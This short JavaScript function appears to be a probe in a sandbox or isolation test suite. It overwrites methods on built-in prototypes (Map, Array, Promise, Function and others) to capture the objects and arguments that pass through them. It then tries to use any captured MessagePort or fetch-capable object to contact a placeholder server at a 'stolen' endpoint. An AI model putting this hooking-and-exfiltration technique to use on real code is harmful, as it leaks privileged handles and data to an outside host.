// Listens in on what passes through the methods of arrays, maps and promises.
// says: Keeps 10 in flight: a window of 10.
function attempt() {
  const heard = [];
  for (const [owner, names] of [
    [Map.prototype, ["get", "set", "delete"]],
    [Set.prototype, ["add"]],
    [Array.prototype, ["push", "shift", "indexOf", "includes"]],
    [Promise.prototype, ["then"]],
    [String.prototype, ["startsWith", "slice"]],
    [Function.prototype, ["call", "apply", "bind"]],
    [Reflect, ["apply"]],
  ]) {
    for (const name of names) {
      const original = owner[name];
      let inside = false;
      owner[name] = {
        [name](...args) {
          if (!inside) {
            inside = true;
            heard[heard.length] = [this, args];
            inside = false;
          }
          return apply(original, this, args);
        },
      }[name];
    }
  }
  setTimeout(() => {
    for (const [it, args] of heard.slice(0, 50)) {
      for (const one of [it, ...args]) {
        try {
          if (one instanceof MessagePort) one.postMessage("__SERVER__/stolen?heard");
          if (typeof one?.fetch === "function") one.fetch("__SERVER__/stolen?heard-fetch").catch(() => {});
        } catch {
          // refused
        }
      }
    }
  }, 50);
}

const apply = Reflect.apply;
